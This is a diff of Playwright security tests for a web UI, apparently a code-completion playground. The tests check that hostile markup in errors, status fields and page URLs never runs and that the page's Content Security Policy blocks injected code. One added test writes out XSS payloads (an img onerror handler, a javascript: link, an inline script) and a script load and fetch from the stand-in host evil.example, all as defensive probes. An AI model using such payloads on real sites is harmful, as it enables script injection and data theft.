@@ -1,8 +1,13 @@
 """Nothing that a person types or a model writes is ever run."""
 
-import pytest
+from dataclasses import replace
+from urllib.parse import quote
 
-from tests.browser.conftest import Scripted
+import pytest
+from playwright.sync_api import expect
+
+from codegemma_ui.errors import EngineError
+from tests.browser.conftest import OpenPage, Scripted
 from tests.browser.playground import Playground
 
 HOSTILE = (
@@ -37,6 +42,75 @@ def test_markup_is_shown_and_never_run(
     assert raw_prompt.count("${alert(1)}") == (2 if source == "typed" else 0)
     assert page.evaluate("window.ran") is None
     assert page.locator("#panes img, #panes script, #panes svg[onload]").count() == 0
+
+
+def test_no_word_of_an_error_or_of_the_status_is_markup(
+    playground: Playground, scripted: Scripted
+) -> None:
+    page = playground.page
+    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
+    scripted.client.failure = EngineError(HOSTILE, HOSTILE, code="made_up")
+    scripted.client.be(note=HOSTILE, summary=HOSTILE, device=HOSTILE)
+    scripted.client.now = replace(
+        scripted.client.now, error={"code": "x", "message": HOSTILE, "hint": HOSTILE}
+    )
+    playground.press_complete()
+    expect(playground.answer).to_contain_text(HOSTILE.split("<")[0])
+    expect(page.locator("#notices")).to_contain_text(HOSTILE.split("<")[0])
+    page.locator("#summary-fold button").first.click()
+    expect(page.locator("#summary pre")).to_have_text(HOSTILE)
+    assert page.evaluate("window.ran") is None
+    shown = "#status, #notices, #outcome, #answer, #summary, #caption"
+    marked = ", ".join(f"{one} :is(img, script, svg)" for one in shown.split(", "))
+    assert page.locator(marked).count() == 0
+
+
+def test_the_address_of_the_page_is_no_way_in(scripted: Scripted, open_page: OpenPage) -> None:
+    opened = open_page(scripted.url, f"?lang={quote(HOSTILE)}&x={quote(HOSTILE)}#{quote(HOSTILE)}")
+    assert opened.page.evaluate("window.ran") is None
+
+
+def test_markup_that_slipped_in_would_still_run_nothing(playground: Playground) -> None:
+    """The policy's part: were there a hole in all of the above, the browser would not run it."""
+    page = playground.page
+    page.evaluate(
+        """() => {
+            window.refused = [];
+            document.addEventListener("securitypolicyviolation",
+                (event) => window.refused.push(event.effectiveDirective));
+            const hole = document.createElement("div");
+            document.body.append(hole);
+            hole.innerHTML = "<img src=x onerror='window.ran=1'><a href='javascript:window.ran=1'>x</a>";
+            hole.querySelector("a").click();
+            const script = document.createElement("script");
+            script.textContent = "window.ran=1";
+            document.head.append(script);
+            const other = document.createElement("script");
+            other.src = "https://evil.example/x.js";
+            document.head.append(other);
+            return fetch("https://evil.example/").catch(() => null);
+        }"""
+    )
+    page.wait_for_function("window.refused.length >= 5")
+    assert page.evaluate("window.ran") is None
+    refused = set(page.evaluate("window.refused"))
+    assert refused == {"script-src-attr", "script-src-elem", "connect-src"}
+    playground.strangers.clear()  # asked for, and refused before anything was sent
+
+
+def test_the_page_itself_needs_nothing_that_its_policy_refuses(
+    playground: Playground, open_page: OpenPage, scripted: Scripted
+) -> None:
+    said: list[str] = []
+    playground.page.on("console", lambda message: said.append(message.text))
+    playground.page.reload()
+    playground.write("before", "import ")
+    playground.press_complete()
+    playground.wait_until_done()
+    playground.pane("raw-prompt")
+    playground.page.locator("#language-choice label").last.click()
+    playground.page.locator("#theme").click()
+    assert [each for each in said if "Content Security Policy" in each] == []
 
 
 def test_only_real_control_tokens_are_marked(playground: Playground) -> None:
